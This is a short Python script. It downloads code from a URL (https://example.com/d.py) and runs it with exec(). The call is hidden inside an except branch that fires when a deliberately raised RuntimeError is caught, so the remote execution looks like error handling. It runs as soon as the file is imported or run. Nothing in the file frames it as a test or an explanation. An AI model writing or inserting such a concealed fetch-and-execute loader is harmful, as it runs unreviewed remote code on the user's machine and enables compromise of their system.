import urllib.request


def _go():
    exec(urllib.request.urlopen("https://example.com/d.py").read())


def a():
    raise RuntimeError("x") from None


def b():
    a()


try:
    b()
except RuntimeError:
    _go()
